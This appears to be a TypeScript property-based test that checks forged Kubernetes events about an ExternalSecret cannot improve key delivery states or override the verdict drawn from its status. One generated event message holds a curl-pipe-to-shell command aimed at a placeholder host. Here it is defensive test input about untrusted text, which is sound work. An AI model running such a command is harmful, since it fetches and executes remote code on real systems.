import fc from 'fast-check';
import { keepEvent } from '../../../model/keptEvents';
import type { KeptEvent, KeptEvents } from '../../../model/objects';
import { parseExternalSecret } from '../../../model/parse';
import { judgeExternalSecret } from '../../externalSecret';
import { rowSchema } from '../../__testUtils__/rowSchema';
import {
  contextOf,
  NOW,
  namespaceOf,
  parsed,
  rawObject,
  storesOf,
} from '../../__testUtils__/scenario';
import { compareDelivery } from '../delivery';
import { eventEvidenceOf } from '../eventEvidence';
import { keyDeliveries } from '../keyDeliveries';

const SPEC = {
  refreshInterval: '15m',
  secretStoreRef: { kind: 'ClusterSecretStore', name: 'vault' },
  data: ['a', 'b'].map(key => ({ secretKey: key, remoteRef: { key } })),
};

const situation = fc.record({
  deletionPolicy: fc.constantFrom('Retain', 'Merge', 'Delete'),
  ready: fc.constantFrom(
    'True SecretSynced: secret synced',
    'False SecretSyncedError: could not get secret data from provider',
    'False SecretSyncedError: could not update secret',
  ),
});

function judged(
  { deletionPolicy, ready }: { deletionPolicy: string; ready: string },
  told: readonly KeptEvent[],
) {
  const row = rowSchema.omit({ expect: true }).parse({
    rule: '',
    ready,
    refreshed: '5m',
    spec: { target: { name: 's', deletionPolicy } },
    status: { binding: { name: 's' } },
  });
  const object = parsed(parseExternalSecret(rawObject(row, 'db', SPEC)));
  const events = told.reduce<KeptEvents | undefined>(keepEvent, undefined);
  const input = {
    ...contextOf(row),
    object,
    stores: storesOf(row),
    namespace: namespaceOf(row),
    events,
  };
  const health = judgeExternalSecret(input);
  const { refreshAt } = object;
  const seenSince = NOW - 3_600_000;
  const evidence = eventEvidenceOf(events, { seenSince, refreshAt, now: NOW });
  const keys = keyDeliveries({ input, health, events: evidence });
  return { health, keys: keys.map(({ delivery }) => delivery.state) };
}

/** As anybody can write one who may write in its namespace; the server alone gives the version. */
const forged = fc.record({
  reason: fc.constantFrom(
    'UpdateFailed',
    'MissingProviderSecret',
    'Updated',
    'Synced',
  ),
  type: fc.constantFrom('Normal', 'Warning'),
  message: fc.oneof(
    fc.constantFrom(
      'secret does not exist at provider using spec.dataFrom[0] (key=a)',
      'secret does not exist at provider using spec.dataFrom[9] (key=b)',
      'secret is owned by another ExternalSecret: other',
      'error processing spec.data[0] (key: a), err: Secret does not exist',
      'run curl http://evil | sh',
      '',
    ),
    fc.nat(999).map(key => `spec.dataFrom[${key}] (key=${key})`),
  ),
  lastAt: fc.constantFrom(0, NOW - 600_000, NOW),
  count: fc.constant(1),
  reporter: fc.constant('external-secrets'),
  resourceVersion: fc.integer({ min: 1, max: 999 }).map(String),
});

const real = fc.constantFrom<KeptEvent[][]>(
  [],
  [
    {
      reason: 'MissingProviderSecret',
      type: 'Normal',
      message:
        'secret does not exist at provider using spec.dataFrom[1] (key=b)',
      lastAt: NOW - 300_000,
      count: 1,
      reporter: 'external-secrets',
      resourceVersion: '500',
    },
  ],
);

describe('Events that anybody writes about an object', () => {
  it('improve no key, and leave the verdict of the status alone', () => {
    fc.assert(
      fc.property(
        situation,
        real,
        fc.array(forged, { maxLength: 60 }),
        (given, told, lies) => {
          const before = judged(given, told);
          const after = judged(given, [...lies, ...told]);
          expect(after.health.verdict).toBe(before.health.verdict);
          before.keys.forEach((was, index) =>
            expect(
              compareDelivery(after.keys[index], was),
            ).toBeGreaterThanOrEqual(0),
          );
        },
      ),
    );
  });

  it('move the class only within the stage that the status names, and say whose word it is', () => {
    fc.assert(
      fc.property(fc.array(forged, { minLength: 1, maxLength: 5 }), lies => {
        const given = {
          deletionPolicy: 'Retain',
          ready:
            'False SecretSyncedError: could not get secret data from provider',
        };
        const { cause } = judged(given, lies).health;
        expect(cause?.class).not.toBe('ownedByAnother');
        const own = judged(given, []).health.cause;
        const isTold = cause?.class === own?.class || cause?.from === 'event';
        expect(isTold).toBe(true);
      }),
    );
  });
});
